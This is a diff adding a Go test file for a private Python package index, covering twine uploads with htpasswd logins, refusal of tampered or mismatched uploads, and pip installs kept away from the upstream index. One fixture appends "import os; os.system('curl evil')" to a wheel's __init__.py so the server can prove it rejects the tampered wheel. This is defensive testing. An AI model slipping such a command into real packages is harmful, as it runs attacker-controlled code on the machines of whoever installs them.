@@ -1,0 +1,408 @@
+package serve
+
+import (
+	"archive/zip"
+	"bytes"
+	"context"
+	"crypto/md5"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"fmt"
+	"io"
+	"mime/multipart"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/larder-build/larder/internal/pypitest"
+	"github.com/larder-build/larder/internal/testenv"
+	"github.com/larder-build/larder/wheelhouse"
+)
+
+// htpasswdFile writes an htpasswd file with Debian's `htpasswd -B`, one
+// user per user:password pair.
+func htpasswdFile(t *testing.T, users ...string) string {
+	t.Helper()
+	bin := testenv.Tool(t, "htpasswd")
+	f := filepath.Join(t.TempDir(), "htpasswd")
+	for i, up := range users {
+		user, pass, _ := strings.Cut(up, ":")
+		args := []string{"-B", "-b"}
+		if i == 0 {
+			args = append(args, "-c")
+		}
+		if out, err := exec.Command(bin, append(args, f, user, pass)...).CombinedOutput(); err != nil {
+			t.Fatalf("htpasswd: %v\n%s", err, out)
+		}
+	}
+	return f
+}
+
+// twine runs Debian's twine upload against an index; its home is empty, so
+// no ~/.pypirc or keyring is read.
+func twine(t *testing.T, repo, user, pass string, args ...string) (string, error) {
+	t.Helper()
+	bin := testenv.Tool(t, "twine")
+	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
+	defer cancel()
+	full := append([]string{"upload", "--non-interactive", "--disable-progress-bar", "--repository-url", repo, "-u", user, "-p", pass}, args...)
+	cmd := exec.CommandContext(ctx, bin, full...)
+	home := t.TempDir()
+	cmd.Env = append(os.Environ(), "HOME="+home, "XDG_CONFIG_HOME="+home, "PYTHON_KEYRING_BACKEND=keyring.backends.null.Keyring", "NO_PROXY=*", "no_proxy=*")
+	out, err := cmd.CombinedOutput()
+	if ctx.Err() != nil {
+		t.Fatalf("twine %v: timed out\n%s", args, out)
+	}
+	return string(out), err
+}
+
+// distFiles builds a project's wheel and sdist into a folder and returns
+// their paths.
+func distFiles(t *testing.T, dir string, p *pypitest.Project, wheelSize int) (wheel, sdist *pypitest.File, paths []string) {
+	t.Helper()
+	r := &p.Releases[0]
+	w, err := pypitest.BuildWheel(p, r, pypitest.Wheel{Tags: "py3-none-any", Size: wheelSize})
+	if err != nil {
+		t.Fatal(err)
+	}
+	sd, err := pypitest.BuildSdist(p, r)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.MkdirAll(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range []*pypitest.File{w, sd} {
+		path := filepath.Join(dir, f.Filename)
+		if err := os.WriteFile(path, f.Data, 0o644); err != nil {
+			t.Fatal(err)
+		}
+		paths = append(paths, path)
+	}
+	return w, sd, paths
+}
+
+// storedFiles lists the files of a store's folder (temporary files
+// included) and its manifest's entries.
+func storedFiles(t *testing.T, dir string) (onDisk, listed []string) {
+	t.Helper()
+	ents, err := os.ReadDir(filepath.Join(dir, wheelhouse.FilesDir))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, e := range ents {
+		onDisk = append(onDisk, e.Name())
+	}
+	st, err := wheelhouse.Open(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, e := range st.Entries() {
+		listed = append(listed, e.Filename)
+	}
+	return onDisk, listed
+}
+
+// TestTwineUploadsArePrivateAndPipInstallsThem is the organisation's push
+// workflow with the real clients: twine uploads a wheel and an sdist as a
+// user of an htpasswd -B file; wrong credentials store nothing; the same
+// file again succeeds; other content under the same name is refused with
+// 409; pip installs the upload through the server, and the upstream, which
+// offers a higher version of that name, is never asked about it.
+func TestTwineUploadsArePrivateAndPipInstallsThem(t *testing.T) {
+	p := newPip(t, "python3")
+	users := htpasswdFile(t, "alice:correct horse", "bob:battery staple")
+	// The upstream offers acme-tools 9.0: were it ever asked, pip would
+	// pick it over the upload.
+	upstream := pypitest.Start(t, &pypitest.Index{Projects: []pypitest.Project{
+		{Name: "acme-tools", Releases: []pypitest.Release{release("9.0")}},
+	}})
+	dir := t.TempDir()
+	st, err := wheelhouse.Create(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	s, base := startServer(t, st, WithHtpasswd(users), WithUpstream(upstream.URL()), WithCacheDir(t.TempDir()))
+	project := &pypitest.Project{Name: "acme-tools", Releases: []pypitest.Release{release("1.0")}}
+	wheel, sdist, paths := distFiles(t, filepath.Join(t.TempDir(), "dist"), project, 0)
+
+	for _, c := range []struct{ name, user, pass string }{
+		{"wrong password", "alice", "wrong"},
+		{"unknown user", "mallory", "correct horse"},
+		{"another user's password", "bob", "correct horse"},
+	} {
+		out, err := twine(t, base+"/legacy/", c.user, c.pass, paths...)
+		if err == nil || !strings.Contains(out, "401") {
+			t.Errorf("%s: twine succeeded or did not report 401: %v\n%s", c.name, err, out)
+		}
+		if strings.Contains(out, c.pass) && c.pass != "" {
+			t.Logf("(twine echoes the password it was given; the server's answer must not)")
+		}
+	}
+	onDisk, listed := storedFiles(t, dir)
+	if len(onDisk) != 0 || len(listed) != 0 {
+		t.Fatalf("refused uploads left files %v, entries %v", onDisk, listed)
+	}
+
+	if out, err := twine(t, base+"/legacy/", "alice", "correct horse", paths...); err != nil {
+		t.Fatalf("twine upload: %v\n%s", err, out)
+	}
+	onDisk, listed = storedFiles(t, dir)
+	wantDisk := []string{sdist.Filename, wheel.Filename, wheel.Filename + ".metadata"}
+	slices.Sort(wantDisk)
+	if !slices.Equal(onDisk, wantDisk) || len(listed) != 2 {
+		t.Fatalf("after the upload: files %v (want %v), entries %v", onDisk, wantDisk, listed)
+	}
+	// Served at once, with the PEP 658 metadata pip reads first.
+	if b := download(t, base+"/files/"+wheel.Filename); !bytes.Equal(b, wheel.Data) {
+		t.Errorf("the uploaded wheel is served with other bytes")
+	}
+	if b := download(t, base+"/files/"+wheel.Filename+".metadata"); !bytes.Equal(b, wheel.Metadata) {
+		t.Errorf("the uploaded wheel's metadata is %q, want %q", b, wheel.Metadata)
+	}
+
+	// Re-runs succeed: the same files again, plain and with --skip-existing.
+	for _, extra := range [][]string{nil, {"--skip-existing"}} {
+		if out, err := twine(t, base+"/", "bob", "battery staple", append(extra, paths...)...); err != nil {
+			t.Errorf("twine upload %v of the same files: %v\n%s", extra, err, out)
+		}
+	}
+
+	// The same name with other content: 409, and the stored file stays.
+	_, _, other := distFiles(t, filepath.Join(t.TempDir(), "other"), project, 64<<10)
+	out, err := twine(t, base+"/legacy/", "alice", "correct horse", other[0])
+	if err == nil || !strings.Contains(out, "409") {
+		t.Errorf("a different wheel under the same name: twine did not report 409: %v\n%s", err, out)
+	}
+	if b := download(t, base+"/files/"+wheel.Filename); !bytes.Equal(b, wheel.Data) {
+		t.Errorf("a refused upload replaced the stored wheel")
+	}
+
+	upstream.Reset()
+	target, out, err := p.install(t, base+"/simple/", "acme-tools")
+	if err != nil {
+		t.Fatalf("pip install: %v\n%s", err, out)
+	}
+	if got := installed(t, target); !slices.Equal(got, []string{"acme-tools==1.0"}) {
+		t.Errorf("pip installed %v, want the upload acme-tools==1.0", got)
+	}
+	if n := upstream.TotalRequests(); n != 0 {
+		t.Errorf("the upstream got %d requests (%v) for an uploaded, private name", n, upstream.Counts())
+	}
+	if st := s.Stats(); st.UpstreamRequests != 0 {
+		t.Errorf("the server sent %d upstream requests", st.UpstreamRequests)
+	}
+
+	// A restarted server still holds the upload private.
+	st2, err := wheelhouse.Open(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	s.Close()
+	_, base2 := startServer(t, st2, WithUpstream(upstream.URL()))
+	target, out, err = p.install(t, base2+"/simple/", "acme-tools")
+	if err != nil {
+		t.Fatalf("pip install from a restarted server: %v\n%s", err, out)
+	}
+	if got := installed(t, target); !slices.Equal(got, []string{"acme-tools==1.0"}) {
+		t.Errorf("after a restart pip installed %v, want acme-tools==1.0", got)
+	}
+	if n := upstream.TotalRequests(); n != 0 {
+		t.Errorf("after a restart the upstream got %d requests (%v)", n, upstream.Counts())
+	}
+}
+
+// uploadRequest is a legacy upload API request as twine sends it.
+func uploadRequest(t *testing.T, u string, f *pypitest.File, edit func(fields map[string]string)) *http.Request {
+	t.Helper()
+	md := md5.Sum(f.Data)
+	filetype := "bdist_wheel"
+	if f.IsSdist {
+		filetype = "sdist"
+	}
+	fields := map[string]string{
+		":action": "file_upload", "protocol_version": "1", "name": f.Project, "version": f.Version,
+		"filetype": filetype, "sha256_digest": f.SHA256, "md5_digest": hex.EncodeToString(md[:]), "metadata_version": "2.1",
+	}
+	if edit != nil {
+		edit(fields)
+	}
+	var body bytes.Buffer
+	mw := multipart.NewWriter(&body)
+	keys := make([]string, 0, len(fields))
+	for k := range fields {
+		keys = append(keys, k)
+	}
+	slices.Sort(keys)
+	for _, k := range keys {
+		mw.WriteField(k, fields[k])
+	}
+	fw, err := mw.CreateFormFile("content", f.Filename)
+	if err != nil {
+		t.Fatal(err)
+	}
+	fw.Write(f.Data)
+	mw.Close()
+	req, err := http.NewRequest(http.MethodPost, u, &body)
+	if err != nil {
+		t.Fatal(err)
+	}
+	req.Header.Set("Content-Type", mw.FormDataContentType())
+	return req
+}
+
+// TestUploadsAreRefusedWithNothingStored sends uploads that must each be
+// refused, and checks the answer and that the store is untouched.
+func TestUploadsAreRefusedWithNothingStored(t *testing.T) {
+	users := htpasswdFile(t, "alice:pw")
+	dir := t.TempDir()
+	st, err := wheelhouse.Create(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, base := startServer(t, st, WithHtpasswd(users), WithOffline(true), WithMaxUpload(200<<10))
+	p := &pypitest.Project{Name: "acme-tools", Releases: []pypitest.Release{release("1.0")}}
+	w, err := pypitest.BuildWheel(p, &p.Releases[0], pypitest.Wheel{Tags: "py3-none-any"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	big, err := pypitest.BuildWheel(p, &p.Releases[0], pypitest.Wheel{Tags: "py3-none-any", Size: 300 << 10})
+	if err != nil {
+		t.Fatal(err)
+	}
+	// A wheel whose module was changed after RECORD was written: its
+	// file hashes are right, its member is not.
+	tampered := *w
+	tampered.Data = rewriteZip(t, w.Data, false, func(name string, b []byte) []byte {
+		if strings.HasSuffix(name, "/__init__.py") {
+			return append(b, "import os; os.system('curl evil')\n"...)
+		}
+		return b
+	})
+	tampered.SHA256 = sha256Of(tampered.Data)
+	// A wheel with a member RECORD does not list.
+	unlisted := *w
+	unlisted.Data = rewriteZip(t, w.Data, false, nil, "acme_tools/extra.py")
+	unlisted.SHA256 = sha256Of(unlisted.Data)
+	// A consistent wheel (RECORD rewritten) whose METADATA names another
+	// project than its file name.
+	renamedAs := *w
+	renamedAs.Data = rewriteZip(t, w.Data, true, func(name string, b []byte) []byte {
+		if strings.HasSuffix(name, ".dist-info/METADATA") {
+			return bytes.Replace(b, []byte("Name: acme-tools"), []byte("Name: requests"), 1)
+		}
+		return b
+	})
+	renamedAs.SHA256 = sha256Of(renamedAs.Data)
+	cases := []struct {
+		name   string
+		file   *pypitest.File
+		auth   []string // user, password; nil for none
+		edit   func(map[string]string)
+		status int
+	}{
+		{"no credentials", w, nil, nil, http.StatusUnauthorized},
+		{"wrong password", w, []string{"alice", "nope"}, nil, http.StatusUnauthorized},
+		{"wrong sha256", w, []string{"alice", "pw"}, func(f map[string]string) { f["sha256_digest"] = strings.Repeat("0", 64) }, http.StatusBadRequest},
+		{"wrong md5", w, []string{"alice", "pw"}, func(f map[string]string) { f["md5_digest"] = strings.Repeat("0", 32) }, http.StatusBadRequest},
+		{"no digest", w, []string{"alice", "pw"}, func(f map[string]string) { delete(f, "sha256_digest"); delete(f, "md5_digest") }, http.StatusBadRequest},
+		{"form names another project", w, []string{"alice", "pw"}, func(f map[string]string) { f["name"] = "requests" }, http.StatusBadRequest},
+		{"form names another version", w, []string{"alice", "pw"}, func(f map[string]string) { f["version"] = "2.0" }, http.StatusBadRequest},
+		{"wrong filetype", w, []string{"alice", "pw"}, func(f map[string]string) { f["filetype"] = "sdist" }, http.StatusBadRequest},
+		{"other action", w, []string{"alice", "pw"}, func(f map[string]string) { f[":action"] = "remove_pkg" }, http.StatusBadRequest},
+		{"member does not match RECORD", &tampered, []string{"alice", "pw"}, nil, http.StatusBadRequest},
+		{"member not in RECORD", &unlisted, []string{"alice", "pw"}, nil, http.StatusBadRequest},
+		{"metadata names another project", &renamedAs, []string{"alice", "pw"}, nil, http.StatusBadRequest},
+		{"larger than --max-upload", big, []string{"alice", "pw"}, nil, http.StatusRequestEntityTooLarge},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			req := uploadRequest(t, base+"/legacy/", c.file, c.edit)
+			if c.auth != nil {
+				req.SetBasicAuth(c.auth[0], c.auth[1])
+			}
+			resp, err := http.DefaultClient.Do(req)
+			if err != nil {
+				t.Fatal(err)
+			}
+			body, _ := io.ReadAll(resp.Body)
+			resp.Body.Close()
+			if resp.StatusCode != c.status {
+				t.Errorf("status %d (%s), want %d", resp.StatusCode, body, c.status)
+			}
+			if c.status == http.StatusUnauthorized && resp.Header.Get("WWW-Authenticate") == "" {
+				t.Errorf("401 without WWW-Authenticate")
+			}
+			if c.auth != nil && strings.Contains(string(body), c.auth[1]) {
+				t.Errorf("the answer repeats the password: %s", body)
+			}
+			onDisk, listed := storedFiles(t, dir)
+			if len(onDisk) != 0 || len(listed) != 0 {
+				t.Errorf("a refused upload left files %v, entries %v", onDisk, listed)
+			}
+		})
+	}
+}
+
+// rewriteZip copies a zip archive, passing each member through edit (when
+// not nil) and adding empty members named add; with fixRecord, RECORD is
+// written last from the edited members.
+func rewriteZip(t *testing.T, data []byte, fixRecord bool, edit func(name string, b []byte) []byte, add ...string) []byte {
+	t.Helper()
+	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var out bytes.Buffer
+	zw := zip.NewWriter(&out)
+	var record strings.Builder
+	recordName := ""
+	for _, f := range zr.File {
+		if strings.HasSuffix(f.Name, ".dist-info/RECORD") && fixRecord {
+			recordName = f.Name
+			continue
+		}
+		rc, err := f.Open()
+		if err != nil {
+			t.Fatal(err)
+		}
+		b, err := io.ReadAll(rc)
+		rc.Close()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if edit != nil {
+			b = edit(f.Name, b)
+		}
+		fw, err := zw.Create(f.Name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		fw.Write(b)
+		sum := sha256.Sum256(b)
+		fmt.Fprintf(&record, "%s,sha256=%s,%d\n", f.Name, base64.RawURLEncoding.EncodeToString(sum[:]), len(b))
+	}
+	if recordName != "" {
+		fmt.Fprintf(&record, "%s,,\n", recordName)
+		fw, err := zw.Create(recordName)
+		if err != nil {
+			t.Fatal(err)
+		}
+		fw.Write([]byte(record.String()))
+	}
+	for _, name := range add {
+		if _, err := zw.Create(name); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return out.Bytes()
+}
